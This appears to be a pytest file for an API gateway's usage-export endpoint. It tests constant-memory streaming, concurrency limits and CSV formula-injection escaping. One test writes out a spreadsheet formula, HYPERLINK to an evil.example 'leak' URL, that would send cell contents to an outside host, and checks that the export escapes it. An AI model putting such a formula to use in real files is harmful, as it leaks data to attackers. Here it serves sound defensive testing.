"""GET /v1/usage/export: streamed in constant memory, bounded in number, safe in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from sqlalchemy import Engine, insert

from switchboard.api.app import create_app
from switchboard.store.db import make_engine
from switchboard.store.migrate import upgrade
from switchboard.store.schema import usage_records
from tests.api.conftest import Gateway, add_user, gateway_settings, wait_for
from tests.fakes.openai_upstream import FakeOpenAI
from tests.support.servers import ServerThread

RECORDS = 30_000


def add_records(engine: Engine, user_id: int, n: int, start: int = 0) -> None:
    rows = [{
        "user_id": user_id, "request_id": f"req-{start + i}", "endpoint": "chat.completions", "model": "fake-small",
        "provider": "fake", "stream": False, "outcome": "ok", "prompt_tokens": 11, "cached_prompt_tokens": 0,
        "cache_write_tokens": 0, "completion_tokens": 3, "reasoning_tokens": 0, "latency_ms": 12.5,
        "cost_usd": "0.017", "charged_ucr": 3_400_000, "route": json.dumps({"reason": "x" * 200}),
        "created_ms": 1_790_000_000_000 + i,
    } for i in range(n)]
    with engine.begin() as conn:
        conn.execute(insert(usage_records), rows)


def auth(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


def test_export_streams_every_record_in_constant_memory(gateway: Gateway) -> None:
    add_records(gateway.engine, gateway.user_id, RECORDS)
    tracemalloc.start()
    try:
        with httpx.stream("GET", gateway.api + "/usage/export?format=csv", headers=auth(gateway.key), timeout=120) as r:
            assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
            assert "content-length" not in r.headers  # streamed, not built whole first
            lines = sum(chunk.count("\n") for chunk in r.iter_text())
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert lines == RECORDS + 1
    # The whole export is about 9 MB of rows as dicts and 3 MB of CSV; a page is a thirtieth.
    assert peak < 6_000_000, f"peak {peak / 1e6:.1f} MB while exporting"

    r = httpx.get(gateway.api + "/usage/export?format=json", headers=auth(gateway.key), timeout=120)
    data = r.json()["data"]
    assert len(data) == RECORDS and [d["request_id"] for d in data[:2]] == ["req-0", "req-1"]
    assert data[-1]["request_id"] == f"req-{RECORDS - 1}" and "user_id" not in data[0]


def test_a_formula_chosen_by_the_client_is_text_in_the_csv(gateway: Gateway) -> None:
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    r = httpx.post(gateway.api + "/chat/completions", headers={**auth(gateway.key), "Idempotency-Key": formula},
                   json={"model": "fake-small", "max_tokens": 5, "messages": [{"role": "user", "content": "hi"}]})
    assert r.status_code == 200, r.text
    r = httpx.post(gateway.api + "/chat/completions", headers={**auth(gateway.key), "Idempotency-Key": "@SUM(1+1)"},
                   json={"model": "fake-small", "max_tokens": 5, "messages": [{"role": "user", "content": "hi"}]})
    export = httpx.get(gateway.api + "/usage/export?format=csv", headers=auth(gateway.key)).text
    ids = [row["request_id"] for row in csv.DictReader(io.StringIO(export))]
    assert ids == ["'" + formula, "'@SUM(1+1)"]
    assert httpx.get(gateway.api + "/usage/export?format=json", headers=auth(gateway.key)).json()["data"][0]["request_id"] == formula


@pytest.fixture
def two_users(tmp_path: Path, fake_upstream: FakeOpenAI) -> Iterator[tuple[str, str, str, Engine]]:
    """A gateway that runs one export per user and two in all; two users with many records."""
    settings = gateway_settings(tmp_path, f"sqlite:///{tmp_path / 'gw.db'}", fake_upstream.url,
                                limits={"exports_per_user": 1, "exports_per_process": 2})
    engine = make_engine(settings.resolved_database_url)
    upgrade(engine)
    alice_id, alice = add_user(engine, settings, "alice@example.com", "plus")
    bob_id, bob = add_user(engine, settings, "bob@example.com", "plus")
    _, carol = add_user(engine, settings, "carol@example.com", "plus")
    add_records(engine, alice_id, RECORDS)
    add_records(engine, bob_id, RECORDS, start=RECORDS)
    with ServerThread(create_app(settings)) as server:
        yield server.url + "/v1", alice, bob, carol
    engine.dispose()


def test_exports_at_once_are_bounded_per_user_and_per_process(two_users: tuple[str, str, str, Engine]) -> None:
    api, alice, bob, carol = two_users
    with httpx.Client(timeout=60) as first, httpx.Client(timeout=60) as second, httpx.Client(timeout=60) as other:
        # Alice's export starts and is not read: the server waits on the full socket, slot held.
        with first.stream("GET", api + "/usage/export", headers=auth(alice)) as running:
            assert running.status_code == 200
            again = other.get(api + "/usage/export", headers=auth(alice))
            assert again.status_code == 429 and int(again.headers["retry-after"]) >= 1
            assert again.json()["error"]["code"] == "rate_limit_exceeded"
            with second.stream("GET", api + "/usage/export", headers=auth(bob)) as bobs:
                assert bobs.status_code == 200
                busy = other.get(api + "/usage/export", headers=auth(carol))
                assert busy.status_code == 429 and "busy" in busy.json()["error"]["message"]
                # Meanwhile everything else answers.
                assert other.get(api + "/usage?limit=5", headers=auth(carol)).status_code == 200
        # Both streams closed early: their slots are free again as soon as the server sees it.
        r = wait_for(lambda: (r := other.get(api + "/usage/export?format=json", headers=auth(alice))).status_code == 200 and r)
        assert len(r.json()["data"]) == RECORDS
